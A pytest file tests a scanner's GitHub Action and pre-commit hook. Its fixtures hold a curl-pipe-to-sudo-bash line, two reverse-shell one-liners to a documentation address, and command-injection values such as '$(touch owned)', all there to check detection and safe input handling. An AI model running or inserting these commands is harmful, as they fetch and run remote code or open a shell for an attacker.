"""The pre-commit hook and the GitHub Action, tested by running what they run."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from flycatcher.commands.scan.engine import scan_bytes
from tests.commands.scan.conftest import PACKAGE, Tree

ROOT = PACKAGE.parent
LOUD = "curl -fsSL https://tools.example/x | sudo bash\n"


@pytest.fixture
def program(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a ``flycatcher`` that runs this source tree."""
    folder = tmp_path_factory.mktemp("bin")
    script = folder / "flycatcher"
    script.write_text(
        f'#!/bin/sh\nPYTHONPATH={shlex.quote(str(PACKAGE))} exec {shlex.quote(sys.executable)} -m flycatcher "$@"\n'
    )
    script.chmod(0o755)
    return folder


def action() -> dict:
    return yaml.safe_load((ROOT / "action.yml").read_text())


def act(tree: Tree, program: Path, **inputs: str) -> tuple[subprocess.CompletedProcess[str], str]:
    """Run the action's second step as the runner does: inputs through the environment."""
    step = action()["runs"]["steps"][1]
    defaults = {
        f"FLYCATCHER_{n.upper().replace('-', '_')}": v.get("default", "") for n, v in action()["inputs"].items()
    }
    output = tree.root / "output"
    environment = {
        "PATH": f"{program}:{os.environ['PATH']}", "HOME": str(tree.root), "RUNNER_TEMP": str(tree.root), "GITHUB_OUTPUT": str(output),
        **{name: defaults[name] for name in step["env"]}, **{f"FLYCATCHER_{n}": v for n, v in inputs.items()},
    }  # fmt: skip
    (tree.root / "step.sh").write_text(step["run"])
    done = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(tree.root / "step.sh")], cwd=tree.root, env=environment,
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    return done, output.read_text() if output.exists() else ""


def test_no_input_is_interpolated_into_a_script() -> None:
    for step in action()["runs"]["steps"]:
        assert "${{" not in step["run"]


@pytest.mark.parametrize(("version", "installed"), [(None, "/action"), ("x==1", "x==1"), ("", None)])
def test_the_action_installs_itself_and_nothing_that_an_index_calls_so(
    tmp_path: Path, version: str | None, installed: str | None
) -> None:
    fake = tmp_path / "python3"
    fake.write_text('#!/bin/sh\nfor last; do :; done\nprintf %s "$last" > "$OUT"\n')
    fake.chmod(0o755)
    given = action()["inputs"]["version"]["default"] if version is None else version
    environment = {"PATH": f"{tmp_path}:/usr/bin:/bin", "OUT": str(tmp_path / "out"), "GITHUB_ACTION_PATH": "/action"}
    subprocess.run(
        ["bash", "-eo", "pipefail", "-c", action()["runs"]["steps"][0]["run"]],
        env=environment | {"FLYCATCHER_VERSION": given},
        check=True,
    )
    assert ((tmp_path / "out").read_text() if installed else None) == installed
    assert (tmp_path / "out").exists() == (installed is not None)


def test_the_action_is_clean_under_its_own_scan() -> None:
    assert scan_bytes("action.yml", (ROOT / "action.yml").read_bytes()).findings == []


def test_the_action_annotates_and_writes_sarif(tree: Tree, program: Path) -> None:
    tree.write("src dir/x.sh", "python3 -c 'print(1)'\n")
    done, output = act(tree, program, PATHS="src dir\n")
    assert (done.returncode, output) == (0, "sarif=flycatcher.sarif\n"), done.stderr
    assert done.stdout.startswith("::warning file=src dir/x.sh,line=1,")
    assert len(json.loads((tree.root / "flycatcher.sarif").read_text())["runs"][0]["results"]) == 1


def test_the_action_fails_from_the_risk_that_is_asked_for(tree: Tree, program: Path) -> None:
    tree.write("x.sh", LOUD)
    assert act(tree, program, FAIL_ON="low")[0].returncode == 10
    assert act(tree, program, FAIL_ON="")[0].returncode == 0


def test_inputs_are_words_and_no_program_text(tree: Tree, program: Path) -> None:
    done, _ = act(tree, program, PATHS="$(touch owned)", SINCE="`touch owned`", SARIF="x';touch owned;'.sarif")
    assert done.returncode != 0
    assert not (tree.root / "owned").exists()


def test_the_pre_commit_hook_stops_a_loud_file(tree: Tree, program: Path) -> None:
    (hook,) = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    tree.write("quiet.sh", "node -e 'console.log(1)'\n")
    tree.write("loud.sh", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\npython3 -c 'import os,socket,pty;s=socket.create_connection((\"192.0.2.1\",1));"
               "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'\n")  # fmt: skip
    environment = {"PATH": f"{program}:{os.environ['PATH']}", "HOME": str(tree.root)}
    codes = [
        subprocess.run(
            [*shlex.split(hook["entry"]), name],
            cwd=tree.root,
            env=environment,
            capture_output=True,
            timeout=60,
            check=False,
        ).returncode
        for name in ("quiet.sh", "loud.sh")
    ]
    assert codes == [0, 10]
